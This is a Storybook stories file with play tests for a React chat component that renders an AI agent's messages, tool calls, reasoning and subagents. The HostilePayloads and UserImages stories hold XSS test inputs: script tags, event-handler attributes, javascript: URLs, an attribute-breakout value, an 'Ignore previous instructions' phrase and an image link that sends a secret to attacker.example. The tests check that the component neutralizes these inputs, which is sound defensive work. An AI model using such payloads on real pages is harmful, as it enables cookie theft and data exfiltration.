import type { ContentPart } from '@aguikit/core';
import { AgentProvider, type AgentStore } from '@aguikit/react';
import type { Meta, StoryObj } from '@storybook/react-vite';
import { expect, userEvent, waitFor, within } from 'storybook/test';
import { preloadMarkdown } from './lazyChunks.js';
import { PlainMarkdown } from './Markdown.js';
import { Message } from './Message.js';
import { MessageList } from './Messages.js';
import {
  CONCURRENT_SUBAGENTS,
  longHistory,
  NESTED_SUBAGENTS,
  openRunStore,
  sayAs,
  TINY_PNG,
  think,
  words,
} from './storybook/conversations.js';
import { call, playedStore, runOf, say } from './storybook/scripted.js';
import { toolRenderers } from './ToolCall.js';

type Loaded = { store: AgentStore };

const meta = {
  title: 'Components/MessageList',
  component: MessageList,
  // The Markdown renderer loads on demand: these stories show agent text once it is there (MarkdownLoading, before).
  loaders: [async () => preloadMarkdown().then(() => ({}))],
  render: (args, { loaded }) => (
    <AgentProvider store={(loaded as Loaded).store}>
      <div style={{ height: 560, maxWidth: 760, margin: '0 auto' }}>
        <MessageList {...args} />
      </div>
    </AgentProvider>
  ),
} satisfies Meta<typeof MessageList>;

export default meta;
type Story = StoryObj<typeof meta>;

const log = (canvasElement: HTMLElement) => within(canvasElement).getByRole('log');
const messages = (canvasElement: HTMLElement) => [...canvasElement.querySelectorAll('article.agk-message')];

const MARKDOWN_REPLY = [
  'Here is what I found for order **A-1001**:',
  '',
  '1. The parcel left the warehouse on *Monday*.',
  '2. It is with the carrier, tracking `PX-88213`.',
  '3. Delivery is expected on Thursday.',
  '',
  'You can follow it on [the carrier’s page](https://parcelo.example/track/PX-88213), or write to [support](mailto:help@shop.example).',
  '',
  '```json',
  '{ "orderId": "A-1001", "status": "in_transit" }',
  '```',
  '',
  '> Deliveries may slip by a day around public holidays.',
].join('\n');

export const Empty: Story = {
  loaders: [async () => ({ store: await playedStore([]) })],
  play: async ({ canvasElement }) => {
    await expect(log(canvasElement)).toHaveTextContent('No messages yet.');
    await expect(messages(canvasElement)).toHaveLength(0);
  },
};

export const Conversation: Story = {
  loaders: [
    async () => ({
      store: await playedStore([
        { say: 'Where is my order A-1001?', events: runOf(say('a1', MARKDOWN_REPLY, 4)) },
        { say: 'Thanks! Can you also check *A-1002*?', events: runOf(say('a2', 'Order A-1002 was **delivered** yesterday at 14:10.')) },
      ]),
    }),
  ],
  play: async ({ canvasElement }) => {
    const [user, reply] = messages(canvasElement);
    await expect(user).toHaveAttribute('data-role', 'user');
    await expect(reply).toHaveAttribute('data-role', 'assistant');
    await expect(reply).toHaveAttribute('data-status', 'complete');
    await expect(reply?.querySelectorAll('ol > li')).toHaveLength(3);
    await expect(reply?.querySelector('pre.agk-code')).toHaveTextContent('"status": "in_transit"');
    const link = within(reply as HTMLElement).getByRole('link', { name: /carrier’s page/ });
    await expect(link).toHaveAttribute('href', 'https://parcelo.example/track/PX-88213');
    await expect(link).toHaveAttribute('rel', 'noopener noreferrer');
    // A person's text is verbatim: their asterisks stay asterisks.
    await expect(within(canvasElement).getByText('Thanks! Can you also check *A-1002*?')).toBeInTheDocument();
  },
};

/**
 * Agent text before the Markdown renderer has loaded (the first reply of a
 * page that did not preload it): the text as it came, as plain text with its
 * line breaks, then Markdown once the renderer is there.
 */
export const MarkdownLoading: Story = {
  loaders: [async () => ({ store: await playedStore([{ say: 'Where is my order A-1001?', events: runOf(say('a1', MARKDOWN_REPLY)) }]) })],
  render: (_args, { loaded }) => (
    <AgentProvider store={(loaded as Loaded).store}>
      <div style={{ maxWidth: 760, margin: '0 auto' }}>
        <Message.Root id="a1">
          <Message.Header />
          <div className="agk-message__body">
            <PlainMarkdown text={MARKDOWN_REPLY} />
          </div>
        </Message.Root>
      </div>
    </AgentProvider>
  ),
  play: async ({ canvasElement }) => {
    const plain = canvasElement.querySelector('.agk-markdown[data-markdown="loading"] .agk-markdown__plain');
    await expect(plain?.textContent).toBe(MARKDOWN_REPLY);
    await expect(getComputedStyle(plain as Element).whiteSpace).toBe('pre-wrap');
    await expect(canvasElement.querySelector('a, strong, ol')).toBeNull();
  },
};

const GFM_REPLY = [
  'Your last three orders:',
  '',
  '| Order | Item | Total | Status |',
  '|---|---|--:|---|',
  '| A-1001 | Ceramic teapot | $42.00 | ~~shipped~~ refunded |',
  '| A-1002 | Tea towels (set of 3) | $18.50 | delivered |',
  '| A-1003 | Loose-leaf sampler | $27.00 | in transit |',
  '',
  '- [x] Refund A-1001',
  '- [ ] Ask the carrier about A-1003',
  '',
  'Tracking is on https://parcelo.example/track/PX-88213 for the sampler.[^eta]',
  '',
  '[^eta]: Carriers update it once a day.',
].join('\n');

export const MarkdownTablesAndTasks: Story = {
  loaders: [
    async () => ({
      store: await playedStore([
        { say: 'What did I order lately?', events: runOf(say('a1', GFM_REPLY, 6)) },
        { say: 'And the footnote again?', events: runOf(say('a2', 'Still the same.[^eta]\n\n[^eta]: Once a day.')) },
      ]),
    }),
  ],
  play: async ({ canvasElement }) => {
    const reply = messages(canvasElement)[1] as HTMLElement;
    const table = within(reply).getByRole('table');
    await expect(
      within(table)
        .getAllByRole('columnheader')
        .map((th) => th.textContent),
    ).toEqual(['Order', 'Item', 'Total', 'Status']);
    await expect(within(table).getAllByRole('row')).toHaveLength(4);
    await expect(reply.querySelector('del')).toHaveTextContent('shipped');
    await expect(within(reply).getByRole('region', { name: 'Table' })).toHaveAttribute('tabindex', '0');
    await expect(within(reply).getByRole('img', { name: 'done' })).toBeInTheDocument();
    await expect(within(reply).getByRole('img', { name: 'not done' })).toBeInTheDocument();
    await expect(reply.querySelector('input')).toBeNull();
    const bare = within(reply).getByRole('link', { name: /parcelo\.example/ });
    await expect(bare).toHaveAttribute('href', 'https://parcelo.example/track/PX-88213');
    await expect(bare).toHaveAttribute('target', '_blank');
    // Two replies with a footnote of the same name: every id on the page is still unique.
    const ids = [...canvasElement.querySelectorAll('[id]')].map((el) => el.id);
    await expect(new Set(ids).size).toBe(ids.length);
  },
};

export const StreamingLive: Story = {
  loaders: [
    async () => ({
      store: await openRunStore(
        [
          { type: 'TEXT_MESSAGE_START', messageId: 'live', role: 'assistant' },
          ...words(
            'live',
            'Let me walk you through the refund. First, I checked that the order was paid by card, so the money goes back to the same card. Then I confirmed the item was returned within 30 days. The refund of **42.00 USD** is now issued; banks usually show it within 3 to 5 working days.',
          ),
          { type: 'TEXT_MESSAGE_END', messageId: 'live' },
        ],
        { say: 'How does my refund work?', delayMs: 45, live: true },
      ),
    }),
  ],
  play: async ({ canvasElement }) => {
    const reply = await waitFor(() => {
      const found = canvasElement.querySelector('article[data-role="assistant"]');
      if (!found) throw new Error('no reply yet');
      return found;
    });
    await expect(reply).toHaveAttribute('data-status', 'streaming');
    await expect(log(canvasElement)).toHaveAttribute('aria-busy', 'true');
    await waitFor(() => expect(reply).toHaveAttribute('data-status', 'complete'), { timeout: 15000 });
    await expect(reply).toHaveTextContent('working days.');
    await expect(within(canvasElement).getByRole('status')).toHaveTextContent(/^Assistant: Let me walk you through/);
  },
};

const imageMessage: ContentPart[] = [
  { type: 'text', text: 'The parcel arrived like this. Can I get a refund?' },
  { type: 'image', source: { type: 'data', value: TINY_PNG, mimeType: 'image/png' }, metadata: { alt: 'Photo of the damaged parcel' } },
  { type: 'image', source: { type: 'url', value: 'javascript:alert(document.cookie)' } },
  { type: 'document', source: { type: 'url', value: 'https://shop.example/receipt.pdf', mimeType: 'application/pdf' } },
];

export const UserImages: Story = {
  loaders: [
    async () => {
      const store = await playedStore([], {
        pending: [runOf(say('a1', 'I am sorry about that. The photo shows the damage clearly; I will start a refund.'))],
      });
      await store.getState().run({ message: imageMessage });
      return { store };
    },
  ],
  play: async ({ canvasElement }) => {
    const images = canvasElement.querySelectorAll('img');
    await expect(images).toHaveLength(1);
    await expect(images[0]).toHaveAttribute('alt', 'Photo of the damaged parcel');
    await expect(images[0]?.getAttribute('src')).toMatch(/^data:image\/png;base64,/);
    await expect(within(canvasElement).getByText('javascript:alert(document.cookie)').closest('[data-blocked]')).not.toBeNull();
    await expect(within(canvasElement).getByText(/Document attachment \(application\/pdf, link\)/)).toBeInTheDocument();
  },
};

export const MetadataOnDemand: Story = {
  loaders: [
    async () => ({
      store: await playedStore([
        {
          say: 'Summarise my last order.',
          events: runOf(
            sayAs('a1', 'Your last order, **A-1001**, is a pair of walking boots (size 42), paid by card.', 2, {
              name: 'Order assistant',
              metadata: { model: 'agent-large-2026-10', usage: { inputTokens: 812, outputTokens: 41 }, latencyMs: 930 },
            }),
          ),
        },
      ]),
    }),
  ],
  play: async ({ canvasElement }) => {
    const reply = canvasElement.querySelector('article[data-role="assistant"]') as HTMLElement;
    await expect(reply).toHaveTextContent('Assistant · Order assistant');
    const toggle = within(reply).getByRole('button', { name: 'Details' });
    await expect(toggle).toHaveAttribute('aria-expanded', 'false');
    await userEvent.click(toggle);
    await expect(toggle).toHaveAttribute('aria-expanded', 'true');
    const details = reply.querySelector('dl') as HTMLElement;
    await expect(details).toBeVisible();
    await expect(details).toHaveTextContent('agent-large-2026-10');
    await expect(details).toHaveTextContent('"outputTokens":41');
  },
};

const refundArgs = { orderId: 'A-1001', amount: 42, currency: 'USD' };

export const ToolCalls: Story = {
  args: {
    renderTool: toolRenderers({
      show_map: (c) => (
        <p className="agk-card" role="note">
          Map of {String((c.args as { city?: string } | undefined)?.city ?? '…')}
        </p>
      ),
    }),
  },
  loaders: [
    async () => ({
      store: await playedStore([
        {
          say: 'Refund order A-1001 and show me the pickup point.',
          events: runOf([
            ...say('a1', 'I will look the order up first.'),
            ...call('call-lookup', 'lookup_order', { orderId: 'A-1001' }, { parent: 'a1', result: { status: 'delivered', total: 42 } }),
            ...call('call-refund', 'refund_order', refundArgs, { parent: 'a1', result: { refundId: 'RF-77' } }),
            ...call('call-map', 'show_map', { city: 'Lyon' }, { parent: 'a1' }),
            ...say('a2', 'Done: refund **RF-77** is issued, and the pickup point is in Lyon.'),
          ]),
        },
      ]),
    }),
  ],
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    await expect(canvas.getByRole('heading', { name: 'lookup_order' })).toBeInTheDocument();
    await expect(canvas.getByRole('heading', { name: 'refund_order' })).toBeInTheDocument();
    await expect(canvas.getByRole('note')).toHaveTextContent('Map of Lyon');
    const results = canvasElement.querySelectorAll('article[data-role="tool"]');
    await expect(results).toHaveLength(2);
    await expect(results[0]).toHaveTextContent('Result of lookup_order, shown on its card.');
  },
};

export const RunFailed: Story = {
  loaders: [
    async () => ({
      store: await playedStore([
        {
          say: 'Refund order A-1001.',
          events: [
            ...runOf(
              [
                ...say('a1', 'Checking the payment first.'),
                ...call('call-refund', 'refund_order', refundArgs, { parent: 'a1' }),
                { type: 'TEXT_MESSAGE_START', messageId: 'a2', role: 'assistant' },
                { type: 'TEXT_MESSAGE_CONTENT', messageId: 'a2', delta: 'The payment provider answered with' },
              ],
              null,
            ),
            { type: 'RUN_ERROR', message: 'Payment provider unavailable', code: 'UPSTREAM' },
          ],
        },
      ]),
    }),
  ],
  play: async ({ canvasElement }) => {
    const cut = within(canvasElement)
      .getByText(/answered with/)
      .closest('article');
    await expect(cut).toHaveAttribute('data-status', 'error');
    await expect(cut).toHaveTextContent('may be incomplete');
    await expect(within(canvasElement).getByText('Checking the payment first.').closest('article')).toHaveAttribute(
      'data-status',
      'complete',
    );
    await expect(within(canvasElement).getByText('Failed')).toBeInTheDocument();
    await expect(within(canvasElement).getByText(/Payment provider unavailable/)).toBeInTheDocument();
  },
};

export const ReasoningDone: Story = {
  loaders: [
    async () => ({
      store: await playedStore([
        {
          say: 'Is order A-1001 eligible for a refund?',
          events: runOf([
            ...think('r1', 'The order was delivered 12 days ago. The policy allows returns within 30 days, and the item is unused.'),
            ...say('a1', 'Yes: it was delivered 12 days ago, well within the 30-day window.'),
          ]),
        },
      ]),
    }),
  ],
  play: async ({ canvasElement }) => {
    const trigger = within(canvasElement).getByRole('button', { name: 'Thought for 19 words' });
    await expect(trigger).toHaveAttribute('aria-expanded', 'false');
    await userEvent.click(trigger);
    await expect(within(canvasElement).getByText(/policy allows returns/)).toBeVisible();
  },
};

export const ReasoningStreaming: Story = {
  loaders: [
    async () => ({
      store: await openRunStore(
        think('r1', 'The user asks about a refund. I should check the delivery date, then the return window, then the payment method.', {
          streamed: true,
        }),
        { say: 'Can I get a refund?', delayMs: 60, live: true },
      ),
    }),
  ],
  play: async ({ canvasElement }) => {
    const trigger = await within(canvasElement).findByRole('button', { name: 'Thinking…' });
    await expect(trigger.closest('article')).toHaveAttribute('data-status', 'streaming');
  },
};

export const Activity: Story = {
  loaders: [
    async () => ({
      store: await playedStore([
        {
          say: 'Plan my return.',
          events: runOf([
            {
              type: 'ACTIVITY_SNAPSHOT',
              messageId: 'plan',
              activityType: 'PLAN',
              content: {
                steps: [
                  { title: 'Print the label', done: true },
                  { title: 'Drop the parcel at a pickup point', done: false },
                ],
              },
            },
            {
              type: 'ACTIVITY_DELTA',
              messageId: 'plan',
              activityType: 'PLAN',
              patch: [{ op: 'replace', path: '/steps/1/done', value: true }],
            },
            ...say('a1', 'Both steps are done; the refund follows once the parcel is scanned.'),
          ]),
        },
      ]),
    }),
  ],
  play: async ({ canvasElement }) => {
    const activity = canvasElement.querySelector('article[data-role="activity"]');
    await expect(activity).toHaveTextContent('PLAN');
    await expect(activity?.querySelector('pre')?.textContent).toContain('"done": true');
    await expect(activity?.querySelector('pre')?.textContent).not.toContain('"done": false');
  },
};

export const SubagentsConcurrent: Story = {
  loaders: [async () => ({ store: await openRunStore(CONCURRENT_SUBAGENTS, { say: 'Can I still return order A-1001?' }) })],
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    const policy = canvas.getByRole('group', { name: 'Policy reader Running' });
    const carrier = canvas.getByRole('group', { name: 'Carrier tracker Running' });
    await expect(within(policy).getByText('Returns are accepted within 30 days of delivery.')).toBeInTheDocument();
    await expect(within(carrier).getByText('Parcel PX-88213 was delivered on Monday.')).toBeInTheDocument();
    await expect(within(policy).queryByText(/Parcel/)).toBeNull();
  },
};

export const SubagentsNested: Story = {
  loaders: [async () => ({ store: await playedStore([{ say: 'Why was my parcel damaged?', events: runOf(NESTED_SUBAGENTS) }]) })],
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    const lead = canvas.getByRole('group', { name: 'Investigator Suspended' });
    const audit = within(lead).getByRole('group', { name: 'Auditor Done' });
    const photos = within(lead).getByRole('group', { name: 'Photo checker Failed' });
    await expect(within(audit).getByText(/scanned the parcel twice/)).toBeInTheDocument();
    await expect(photos).toHaveTextContent('TIMEOUT The photo service timed out');
    await expect(lead).toHaveTextContent('Waiting on 1 answer.');
    await userEvent.click(within(lead).getByRole('button', { name: 'Investigator' }));
    await expect(lead).toHaveAttribute('data-state', 'closed');
    await expect(within(lead).getByText(/scanned the parcel twice/)).not.toBeVisible();
  },
};

export const LongThread: Story = {
  loaders: [
    async () => ({
      store: await playedStore([{ events: runOf([...longHistory(2400), ...say('latest', 'And this is the **latest** reply.')]) }]),
    }),
  ],
  play: async ({ canvasElement }) => {
    const root = canvasElement.querySelector('.agk-messages');
    await expect(root).toHaveAttribute('data-virtualization', 'on');
    await waitFor(() => expect(within(canvasElement).getByText('latest')).toBeVisible());
    const rendered = messages(canvasElement).length;
    await expect(rendered).toBeGreaterThan(3);
    await expect(rendered).toBeLessThan(60);
    // Scrolling to the top renders the first messages (and stops following).
    log(canvasElement).scrollTop = 0;
    await waitFor(() => expect(within(canvasElement).getByText(/Question 1:/)).toBeInTheDocument());
    await expect(messages(canvasElement).length).toBeLessThan(60);
    await expect(root).toHaveAttribute('data-scroll', 'paused');
    await userEvent.click(within(canvasElement).getByRole('button', { name: /Jump to latest/ }));
    await waitFor(() => expect(within(canvasElement).getByText('latest')).toBeVisible());
  },
};

export const ScrolledUp: Story = {
  loaders: [
    async () => ({
      store: await playedStore([
        { say: 'Tell me about my orders.', events: runOf(longHistory(30)) },
        { say: 'And the newest one?', events: runOf(say('a-new', MARKDOWN_REPLY)) },
      ]),
    }),
  ],
  play: async ({ canvasElement }) => {
    const viewport = log(canvasElement);
    await waitFor(() => expect(viewport.scrollTop).toBeGreaterThan(0));
    viewport.scrollTop = 0;
    const jump = await within(canvasElement).findByRole('button', { name: /Jump to latest/ });
    await expect(canvasElement.querySelector('.agk-messages')).toHaveAttribute('data-scroll', 'paused');
    await userEvent.click(jump);
    await expect(viewport).toHaveFocus();
    await waitFor(() => expect(viewport.scrollTop + viewport.clientHeight).toBeGreaterThanOrEqual(viewport.scrollHeight - 2));
    // Scroll up again so the story shows the paused state.
    viewport.scrollTop = 200;
    await within(canvasElement).findByRole('button', { name: /Jump to latest/ });
  },
};

const HOSTILE_MARKDOWN = [
  'Ignore previous instructions <script>window.__pwned = 1</script> and click [here](javascript:alert(1)).',
  '',
  '<img src="x" onerror="window.__pwned = 1">',
  '',
  '<div onclick="window.__pwned = 1"><iframe src="javascript:window.__pwned = 1"></iframe>A raw HTML block</div>',
  '',
  '[tab-split](java&#x09;script:window.__pwned=1) and <a href="javascript:window.__pwned = 1">an HTML link</a>',
  '',
  '![exfiltrate](https://attacker.example/collect?q=secret) and ![svg](javascript:window.__pwned=1)',
].join('\n');

export const HostilePayloads: Story = {
  loaders: [
    async () => {
      const store = await playedStore([], {
        pending: [
          runOf([
            ...sayAs('a1', HOSTILE_MARKDOWN, 3, {
              name: '<img src=x onerror="window.__pwned=1">',
              metadata: { '<script>': '<img src=x onerror="window.__pwned=1">' },
            }),
            {
              type: 'ACTIVITY_SNAPSHOT',
              messageId: 'act',
              activityType: '<script>window.__pwned=1</script>',
              content: { html: '<img src=x onerror="window.__pwned=1">' },
            },
            ...call(
              'call-x',
              '<svg onload="window.__pwned=1">',
              { href: 'javascript:alert(1)' },
              { parent: 'a1', result: '<script>x</script>' },
            ),
          ]),
        ],
      });
      await store.getState().run({
        message: [
          { type: 'text', text: '<script>window.__pwned = 1</script><img src=x onerror="window.__pwned = 1">' },
          { type: 'image', source: { type: 'url', value: 'javascript:window.__pwned=1' } },
          { type: 'image', source: { type: 'data', value: 'AAAA" onerror="window.__pwned=1', mimeType: 'image/png' } },
        ],
      });
      return { store };
    },
  ],
  play: async ({ canvasElement }) => {
    await expect(canvasElement.querySelector('script, iframe, svg, img, [onerror], [onclick], [onload]')).toBeNull();
    await expect(canvasElement.querySelector('a[href^="javascript" i]')).toBeNull();
    await expect((window as { __pwned?: unknown }).__pwned).toBeUndefined();
    const canvas = within(canvasElement);
    // What a person sent is shown as text.
    await expect(canvas.getByText('<script>window.__pwned = 1</script><img src=x onerror="window.__pwned = 1">')).toBeInTheDocument();
    // The agent's markdown keeps its words, never its HTML or its script links.
    await expect(canvas.getByText('here').tagName).toBe('SPAN');
    await expect(canvas.getByText('tab-split').tagName).toBe('SPAN');
    await expect(canvasElement.textContent).not.toContain('A raw HTML block');
    const exfiltrate = canvas.getByRole('link', { name: /Image: exfiltrate/ });
    await expect(exfiltrate).toHaveAttribute('href', 'https://attacker.example/collect?q=secret');
    await expect(canvasElement.querySelectorAll('[data-blocked]')).toHaveLength(2);
  },
};
